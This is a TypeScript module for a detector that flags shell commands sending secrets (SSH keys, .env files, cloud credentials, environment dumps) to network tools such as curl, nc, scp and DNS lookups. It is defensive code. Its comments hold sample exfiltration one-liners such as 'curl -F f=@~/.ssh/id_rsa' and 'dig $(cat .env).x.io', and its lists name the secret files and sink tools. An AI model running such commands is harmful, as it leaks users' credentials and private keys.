import { type AccessEnv, EMPTY_ENV, resolvePath } from './detect-access-rules.js';
import type { RuleContext, VerbRules } from './detect-context.js';
import { DNS_TOOLS, MAILERS, STREAM_CLIENTS, type Upload, uploadOf } from './detect-exfil-sinks.js';
import { DANGEROUS, HARDLINE } from './detect-keys.js';
import { leavesFilesAlone, pathUses } from './detect-path-uses.js';
import { matchesBelow } from './detect-paths.js';
import { collapsePath } from './sensitive-paths.js';
import { operands, type Segment } from './shell-segment.js';
import type { ShellWord } from './shell-types.js';

/**
 * Exfiltration: a secret source (private keys, credentials, `.env` files, HERMES_HOME, process
 * environments, `env` output) reaching a network sink (uploads with curl/wget, nc, socat, scp,
 * rsync to a remote, ssh, DNS lookups carrying substituted data, mail, cloud copies). Dangerous;
 * hardline when the source is the gateway's own secrets.
 */

/** How secret a command's output (or a file) is: the gateway's own, someone's, or not at all. */
export type SecretLevel = 'gateway' | 'secret' | undefined;

export function higher(a: SecretLevel, b: SecretLevel): SecretLevel {
  if (a === 'gateway' || b === 'gateway') return 'gateway';
  return a ?? b;
}

/** What earlier commands of the list left behind: files and variables holding secrets. */
export interface FlowEnv extends AccessEnv {
  readonly secretFiles: ReadonlyMap<string, SecretLevel>;
  readonly secretVars: ReadonlyMap<string, SecretLevel>;
  /**
   * Values of those variables as written (`$(cat ~/.ssh/id_rsa)`): the engine substitutes
   * constants before rules run, so `$K` reaches a later command as this text (or its pieces).
   */
  readonly secretTexts: ReadonlyMap<string, SecretLevel>;
}

export const EMPTY_FLOW: FlowEnv = {
  ...EMPTY_ENV,
  secretFiles: new Map(),
  secretVars: new Map(),
  secretTexts: new Map(),
};

const TEMPLATE_SUFFIXES = ['.example', '.sample', '.template', '.dist', '.defaults', '.tmpl'];
const SECRET_NAMES =
  /^(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|credentials(?:\.json)?|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|kubeconfig|service-account.*\.json|.*\.(?:pem|key|p12|pfx|keystore|jks))$/;

/** Files that are secrets by name wherever they are (`.env`, `id_rsa`, `*.pem`, `credentials`). */
function secretByName(path: string): boolean {
  const name = path.slice(path.lastIndexOf('/') + 1);
  if (name === '.env' || (name.startsWith('.env.') && !TEMPLATE_SUFFIXES.some((s) => name.endsWith(s))))
    return true;
  return SECRET_NAMES.test(name);
}

function stripDot(path: string): string {
  return path.startsWith('./') ? path.slice(2) : path;
}

/** How secret the content of `path` is. */
export function fileSecrecy(
  path: string,
  word: ShellWord | undefined,
  env: FlowEnv,
  recursive: boolean,
): SecretLevel {
  const staged = env.secretFiles.get(stripDot(path));
  if (staged !== undefined) return staged;
  const resolved = resolvePath(path, word, env, undefined);
  let level: SecretLevel;
  const dir = collapsePath(resolved.path === '' ? path : resolved.path);
  if (recursive && (dir.startsWith('/') || dir.startsWith('~'))) {
    for (const match of matchesBelow(dir)) {
      if (match.area === 'hermes_secret' || match.area === 'process_secrets') return 'gateway';
      if (match.read === 'dangerous' && match.area !== 'block_device') level = 'secret';
    }
  }
  for (const match of resolved.matches) {
    if (match.area === 'hermes_secret' || match.area === 'process_secrets') return 'gateway';
    if (match.area === 'hermes_home' && resolved.hermesDir && recursive) return 'gateway';
    if (match.read === 'dangerous' && match.area !== 'block_device') level = 'secret';
  }
  if (level === undefined && !/\s/.test(path) && secretByName(path)) level = 'secret';
  return level;
}

/** Programs that print the environment (the command's own, which may carry passed-through secrets). */
function dumpsEnvironment(seg: Segment): boolean {
  const { verb, argv } = seg;
  if (verb === '') return seg.wrappers.some((w) => w.name === 'env');
  if (verb === 'printenv' || verb === 'env') return operands(argv).length === 0 || verb === 'printenv';
  if (verb === 'set') return argv.length === 0;
  if (verb === 'export' || verb === 'declare' || verb === 'typeset') {
    return argv.length === 0 || argv.every((a) => /^-[a-zA-Z]*[px][a-zA-Z]*$/.test(a));
  }
  if (verb === 'compgen') return argv.includes('-e') || argv.includes('-v');
  return false;
}

/** Commands that print a credential: `gh auth token`, `gcloud auth print-access-token`, `kubectl config view --raw`… */
function printsCredential(seg: Segment): boolean {
  const ops = operands(seg.argl);
  switch (seg.verb) {
    case 'gh':
      return ops[0] === 'auth' && ops[1] === 'token';
    case 'gcloud':
      return ops.includes('print-access-token') || ops.includes('print-identity-token');
    case 'aws':
      return (
        (ops[0] === 'configure' && (ops[1] === 'get' || ops[1] === 'export-credentials')) ||
        ops.includes('get-session-token')
      );
    case 'az':
      return ops.includes('get-access-token');
    case 'kubectl':
      return ops[0] === 'config' && ops[1] === 'view' && seg.argl.includes('--raw');
    case 'git':
      return ops[0] === 'credential' && ops[1] === 'fill';
    case 'security':
      return /^find-(?:generic|internet)-password$/.test(ops[0] ?? '');
    case 'pass':
    case 'gopass':
      return ops[0] === 'show' || (ops.length === 1 && ops[0] !== 'ls');
    case 'op':
      return ops[0] === 'read' || (ops[0] === 'item' && ops[1] === 'get');
    case 'vault':
      return ops[0] === 'read' || (ops[0] === 'kv' && ops[1] === 'get');
    default:
      return seg.verb.startsWith('docker-credential-') && ops[0] === 'get';
  }
}

/** `ps eww`, `ps auxe`: BSD-style `e` shows every process's environment, the gateway's included. */
export function psShowsEnvironment(seg: Segment): boolean {
  if (seg.verb !== 'ps') return false;
  return seg.argv.some(
    (arg) => (!arg.startsWith('-') && /^[a-zA-Z]+$/.test(arg) && arg.includes('e')) || arg === '-E',
  );
}

/** Variables written as a whole word or inside one (`$K`, `${K}`, `"x=$K"`). */
function variablesIn(text: string): string[] {
  const out: string[] = [];
  const re = /\$\{?([a-z_][a-z0-9_]*)/gi;
  for (let m = re.exec(text); m !== null; m = re.exec(text)) out.push((m[1] as string).toLowerCase());
  return out;
}

/**
 * Secrecy of argument text that carries a substitution the engine already replaced by its
 * source (`K=$(cat ~/.ssh/id_rsa); curl -d "$K"` reaches here as the text of the substitution).
 */
function argumentSecrecy(seg: Segment, env: FlowEnv): SecretLevel {
  let level: SecretLevel;
  seg.args.forEach((word, i) => {
    const text = seg.argl[i] as string;
    if (env.secretVars.size > 0)
      for (const name of variablesIn(text)) level = higher(level, env.secretVars.get(name));
    if (text.length >= 2)
      for (const [value, secrecy] of env.secretTexts)
        if (value.includes(text)) level = higher(level, secrecy);
    if (word.subs.length > 0 || !(text.includes('$(') || text.includes('`'))) return;
    for (const token of text.split(/[\s()`'"|;&<>=@]+/)) {
      if (token.includes('/') || token.startsWith('.env'))
        level = higher(level, fileSecrecy(token, undefined, env, false));
    }
  });
  return level;
}

/** Secrecy of what `seg` writes to its stdout (or to a file it redirects into). */
export function outputSecrecy(seg: Segment, env: FlowEnv, segmentsOf: SubLists): SecretLevel {
  if (dumpsEnvironment(seg) || printsCredential(seg)) return 'secret';
  if (psShowsEnvironment(seg)) return 'gateway';
  let level = argumentSecrecy(seg, env);
  level = higher(level, substitutionSecrecy(seg.args, env, segmentsOf));
  if (leavesFilesAlone(seg.verb) && seg.redirects.length === 0) return level;
  for (const used of pathUses(seg).paths) {
    if (used.use === 'write' || used.use === 'attr') continue;
    level = higher(level, fileSecrecy(used.path, used.word, env, used.recursive));
    if (level === 'gateway') return level;
  }
  return level;
}

export type SubLists = (word: ShellWord) => readonly Segment[];

/** Secrecy of what substitutions inside `words` produce (`$(cat ~/.ssh/id_rsa)`). */
export function substitutionSecrecy(
  words: readonly ShellWord[],
  env: FlowEnv,
  segmentsOf: SubLists,
): SecretLevel {
  let level: SecretLevel;
  for (const word of words) {
    if (word.subs.length === 0) continue;
    for (const seg of segmentsOf(word)) level = higher(level, outputSecrecy(seg, env, segmentsOf));
  }
  return level;
}

/** Emits the exfiltration finding for a secret level. */
export function exfilFinding(ctx: RuleContext, level: SecretLevel): void {
  if (level === 'gateway') ctx.hardline(HARDLINE.hermesExfil);
  else if (level === 'secret') ctx.danger(DANGEROUS.exfil);
}

/** What one sink command sends by itself: named files, `< file`, substitutions in its arguments. */
export function sinkSecrecy(seg: Segment, upload: Upload, env: FlowEnv, segmentsOf: SubLists): SecretLevel {
  let level: SecretLevel;
  for (const file of upload.files)
    level = higher(level, fileSecrecy(file.path, file.word, env, file.recursive));
  for (const redirect of seg.redirects) {
    if ((redirect.op === '<' || redirect.op === '<>') && redirect.target !== undefined) {
      level = higher(level, fileSecrecy(redirect.target.text.toLowerCase(), redirect.target, env, false));
      level = higher(level, substitutionSecrecy([redirect.target], env, segmentsOf));
    }
  }
  // Substitutions feed a sink whatever the argument is: data, URL, or a `<(…)` file to upload.
  level = higher(level, substitutionSecrecy(seg.args, env, segmentsOf));
  if (upload.argsLeak) level = higher(level, argumentSecrecy(seg, env));
  if (seg.redirects.some((r) => r.target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)))
    level = higher(level, outputSecrecy(seg, env, segmentsOf));
  return level;
}

function subListsFor(ctx: RuleContext): SubLists {
  return (word) => word.subs.flatMap((sub) => ctx.segmentsOf(sub.list));
}

/** One command on its own: `curl -F f=@~/.ssh/id_rsa`, `nc h 1 < .env`, `dig $(cat .env).x.io`. */
export function exfilRule(ctx: RuleContext, env: FlowEnv = EMPTY_FLOW): void {
  const upload = uploadOf(ctx.seg);
  if (upload === undefined) return;
  exfilFinding(ctx, sinkSecrecy(ctx.seg, upload, env, subListsFor(ctx)));
}

export { type Upload, uploadOf } from './detect-exfil-sinks.js';

export const exfilRules: readonly VerbRules[] = [
  {
    verbs: [
      'curl',
      'wget',
      'openssl',
      'socat',
      'scp',
      'rsync',
      'sftp',
      'aws',
      'gsutil',
      'gcloud',
      'rclone',
      'gh',
      'az',
      'http',
      'https',
      'xh',
      'xhs',
      ...STREAM_CLIENTS,
      ...DNS_TOOLS,
      ...MAILERS,
    ],
    run: (ctx) => exfilRule(ctx),
  },
];
